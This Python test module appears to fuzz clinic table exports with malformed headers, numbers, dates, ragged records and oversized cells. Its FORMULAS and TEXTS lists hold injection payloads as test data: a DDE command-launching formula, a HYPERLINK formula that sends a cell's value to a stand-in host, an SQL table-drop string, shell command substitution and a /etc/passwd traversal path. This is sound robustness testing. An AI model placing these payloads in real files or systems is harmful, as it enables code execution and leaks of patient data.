"""Tables that no clinic should send, in any format that holds a table."""

from functools import cache
from random import Random

from tests.fuzzing.exports import SECRET, Export, Table, sound_table

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1)',
    "@SUM(A1:A9)",
    "+1",
    "=1/0",
    "-2+3",
)
NUMBERS = (
    "1e308", "1e400", "-1e400", "9" * 400, "NaN", "nan", "inf", "-Infinity", "-0", "0x10", "1_000",
    "1,5", "1.5", "+1", "1e-400", "٣", "３", "½", "1 000", "٫", "--1", "1e", ".", "true",
    "3.0000001",
)  # fmt: skip
DAYS = (
    "0000-00-00", "9999-12-31", "10000-01-01", "2026-02-30", "0001-01-01", "-4713-01-01",
    "infinity",
    "-infinity", "epoch", "now", "today", "294247-01-10", "1582-10-10", "05-01-2026", "1/2/26",
    "2026-01-05T25:00:00", "2026-01-05 10:00:00+99:00", "2026-W01-1", "45000", "99999999999999",
    "1899-12-31",
    "2026-01-05 10:00:00.123456789123", "2026-01-05 (BC)",
)  # fmt: skip
TEXTS = (
    "'); drop table record; --", "${HOME}", "$(touch fuzzed)", "%s%s%n", "{0.__class__}",
    "[bold]x[/]",
    "../../../../etc/passwd", "\\\\server\\share", "a\x1b[31mb", "a\x07b", "a\u202eb", "\ufeff",
    "\u0000",
    "\ud800", "a\ud83d", "e\u0301" * 200, "'", '"', '""', "\\", "a\nb", "a\r\nb", "\t", "a;b",
    "a|b",
    " ", "NA", "NULL", "null", "None", "L1", "#N/A", "\x1f", "\x7f", "\ufffe", "🏳️‍🌈", "ｆｕｌｌ",
    "\x85",
)  # fmt: skip


def _written(export: Export, table: Table) -> bytes:
    assert export.write is not None
    return export.write(table)


def _anywhere(chance: Random, table: Table) -> tuple[int, int]:
    row = chance.randrange(1, len(table))
    return row, chance.randrange(len(table[row]))


def wild_cells(chance: Random, export: Export) -> bytes:
    """A few cells that hold a formula, a number, a day or a text that is none."""
    table = sound_table()
    for _ in range(chance.choice((1, 3, 30))):
        row, column = _anywhere(chance, table)
        table[row][column] = chance.choice(chance.choice((FORMULAS, NUMBERS, DAYS, TEXTS)))
    return _written(export, table)


def wild_column(chance: Random, export: Export) -> bytes:
    """Every cell of one column is of the same wild sort."""
    table, wild = sound_table(), chance.choice((FORMULAS, NUMBERS, DAYS, TEXTS))
    column = chance.randrange(len(table[0]))
    for row in table[1:]:
        row[column] = chance.choice(wild)
    return _written(export, table)


def wild_days(chance: Random, export: Export) -> bytes:
    table = sound_table()
    for row in table[1:]:
        row[2] = chance.choice(DAYS)
    return _written(export, table)


def wild_header(chance: Random, export: Export) -> bytes:
    """Names that are empty, double, of another letter, or no names."""
    table = sound_table()
    place = chance.randrange(len(table[0]))
    other = chance.choice(("", " ", table[0][0], table[0][-1], f"{SECRET}h", *TEXTS, *FORMULAS))
    table[0][place] = chance.choice((other, other, table[0][place].upper(), f" {table[0][place]} "))
    return _written(export, table)


def doubled_columns(chance: Random, export: Export) -> bytes:
    table = sound_table()
    places = [chance.randrange(len(table[0])) for _ in range(chance.choice((1, 3)))]
    return _written(export, [row + [row[place] for place in places] for row in table])


def removed_columns(chance: Random, export: Export) -> bytes:
    table = sound_table()
    gone = {chance.randrange(len(table[0])) for _ in range(chance.choice((1, 1, 5)))}
    kept = [[cell for i, cell in enumerate(row) if i not in gone] for row in table]
    return _written(export, kept)


def header_only(chance: Random, export: Export) -> bytes:
    return _written(export, sound_table()[:1])


def no_header(chance: Random, export: Export) -> bytes:
    return _written(export, sound_table()[1:])


def shuffled_records(chance: Random, export: Export) -> bytes:
    """Repeats and contradictions in another order."""
    header, *rows = sound_table()
    more = [[*chance.choice(rows)] for _ in range(chance.choice((1, 10, 100)))]
    for row in more:
        if chance.random() < 0.5:
            row[chance.randrange(4, 13)] = chance.choice("0123")
    together = [*rows, *more]
    chance.shuffle(together)
    return _written(export, [header, *together])


def ragged_records(chance: Random, export: Export) -> bytes:
    table = sound_table()
    for _ in range(chance.choice((1, 5))):
        row = table[chance.randrange(1, len(table))]
        if chance.random() < 0.5:
            del row[chance.randrange(len(row)) :]
        else:
            row += chance.choice(([""], ["", "", ""], ["x"], [f"{SECRET}extra"] * 100))
    return _written(export, table)


def endless_cell(chance: Random, export: Export) -> bytes:
    table = sound_table()
    row, column = _anywhere(chance, table)
    sign = chance.choice(("x", "9", " ", "é", "x\n", '"', SECRET))
    table[row][column] = sign * (chance.choice((32_768, 100_000, 100_000, 1_100_000)) // len(sign))
    return _written(export, table)


def endless_record(chance: Random, export: Export) -> bytes:
    """Cells that can each be read, in a record that cannot."""
    if not (export.is_text or export.is_packed):
        raise ValueError("each record of a statistics package is as long as the longest")
    table = sound_table()[:3]
    row, _ = _anywhere(chance, table)
    for column in range(chance.choice((3, 14))):
        table[row][column] = chance.choice(("é", '"', "😶")) * chance.choice((300_000, 900_000))
    return _written(export, table)


def endless_name(chance: Random, export: Export) -> bytes:
    table = sound_table()
    table[0][chance.randrange(len(table[0]))] = SECRET * 25_000
    return _written(export, table)


def thousands_of_columns(chance: Random, export: Export) -> bytes:
    return _wide(export, chance.choice((1_000, 10_000, 10_000, 16_300, 25_000)))


@cache
def _wide(export: Export, more: int) -> bytes:
    """Three records and so many columns; statistics packages take long to write those."""
    more = more if export.is_text or export.is_packed else min(more, 10_000)
    header, *rows = sound_table()
    names = [f"x{i}" for i in range(more)]
    cells = ["1"] * more
    return _written(export, [header + names, *(row + cells for row in rows[:3])])


def empty_records(chance: Random, export: Export) -> bytes:
    header, *rows = sound_table()
    empty = [[""] * len(header) for _ in range(chance.choice((1, 500)))]
    return _written(export, [header, *rows[:9], *empty, *rows[9:]])


def title_above(chance: Random, export: Export) -> bytes:
    title = [[f"{SECRET} overzicht"], [], ["gemaakt op", "2026-01-05"]]
    return _written(export, [*title[: chance.choice((1, 2, 3))], *sound_table()])
